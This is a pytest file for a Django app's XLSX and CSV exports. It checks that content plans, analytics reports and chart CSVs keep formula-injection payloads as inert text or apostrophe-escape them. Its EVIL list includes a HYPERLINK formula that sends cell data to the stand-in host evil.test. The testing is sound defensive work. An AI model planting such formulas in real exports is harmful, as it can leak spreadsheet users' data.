"""No export plants a formula: risky texts are text cells in XLSX and '-escaped in CSV."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.db.models import F
from django.urls import reverse
from openpyxl import load_workbook

from tests.analytics.test_report_data import fill
from tests.content.conftest import make_item
from zveno.analytics.models import Post
from zveno.content import services
from zveno.content.models import ContentItem, Rubric

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.test/?"&A2,"x")',
    "+7 call me",
    "-1+2",
    "@SUM(A1:A9)",
    "\tTab",
    "\rReturn",
]


def formulas_in(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element in every sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", book.read(n).decode())]


def xlsx_texts(xlsx: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(xlsx))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    found.add(cell.value)
    return found


def csv_cells(body: bytes, delimiter=";") -> set[str]:
    text = body.decode("utf-8-sig")
    return {c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row}


@pytest.fixture
def evil_plan(world):
    services.ensure_rubrics(world.alpha)
    rubric = Rubric.objects.filter(project=world.alpha).first()
    rubric.name = EVIL[3]
    rubric.save()
    make_item(
        world, title=EVIL[0], text=EVIL[1], visual_brief=EVIL[2], rubric=rubric.code,
        link="https://example.test/a",
    )  # fmt: skip
    make_item(world, title=EVIL[4], text=EVIL[5])
    return world


@pytest.mark.parametrize("via", ["api", "page"])
def test_plan_xlsx_keeps_risky_texts_as_text(evil_plan, api, login, via):
    if via == "api":
        body = api(evil_plan, "smm").get("/api/v1/projects/alpha/plan.xlsx").content
    else:
        client = login(evil_plan.users["smm"])
        body = client.get(reverse("content:plan_xlsx", args=["alpha"])).content
    assert formulas_in(body) == []
    texts = xlsx_texts(body)
    for value in EVIL[:4]:
        assert value in texts
    book = load_workbook(io.BytesIO(body))
    risky = [c for r in book.active.iter_rows() for c in r if c.value in EVIL[:4]]
    assert risky and all(c.quotePrefix for c in risky)


@pytest.mark.parametrize("via", ["api", "page"])
def test_plan_csv_escapes_risky_texts(evil_plan, api, login, via):
    if via == "api":
        body = api(evil_plan, "smm").get("/api/v1/projects/alpha/plan.csv").content
    else:
        client = login(evil_plan.users["smm"])
        body = client.get(reverse("content:plan_csv", args=["alpha"])).content
    cells = csv_cells(body)
    for value in EVIL[:4]:
        assert "'" + value in cells
        assert value not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_an_escaped_plan_imports_back_as_typed(evil_plan, api):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.test.client import MULTIPART_CONTENT

    caller = api(evil_plan, "smm")
    body = caller.get("/api/v1/projects/alpha/plan.csv").content
    response = caller.post(
        "/api/v1/projects/alpha/plan/import",
        {"file": SimpleUploadedFile("plan.csv", body)},
        content_type=MULTIPART_CONTENT,
    )
    assert response.status_code in (200, 201), response.content
    items = ContentItem.objects.filter(project=evil_plan.alpha, title=EVIL[0])
    assert items.count() == 2
    assert {i.text for i in items} == {EVIL[1]}
    assert {i.rubric.name for i in items} == {EVIL[3]}


def _evil_posts(world):
    fill(world)
    titles = iter(EVIL)
    posts = Post.objects.filter(project=world.alpha, external_id__startswith="nov-")
    for post in posts.order_by(F("latest_reach").desc(nulls_last=True))[:6]:
        post.title = next(titles)
        post.save()


def test_report_xlsx_keeps_risky_texts_as_text(world, api):
    _evil_posts(world)
    response = api(world, "smm").get(
        "/api/v1/projects/alpha/reports?from=2026-11-01&to=2026-11-30&format=xlsx"
    )
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    assert EVIL[0] in xlsx_texts(response.content)


def test_report_xlsx_page_download(world, login):
    _evil_posts(world)
    client = login(world.users["smm"])
    url = reverse("analytics:report_xlsx", args=["alpha"]) + "?from=2026-11-01&to=2026-11-30"
    body = client.get(url).content
    assert formulas_in(body) == []
    assert EVIL[0] in xlsx_texts(body)


def test_chart_csv_escapes_post_titles(world, login):
    _evil_posts(world)
    client = login(world.users["smm"])
    url = reverse("analytics:chart_csv", args=["alpha", "top_reach"])
    response = client.get(url + "?from=2026-11-01&to=2026-11-30")
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert "'" + EVIL[0] in cells and EVIL[0] not in cells
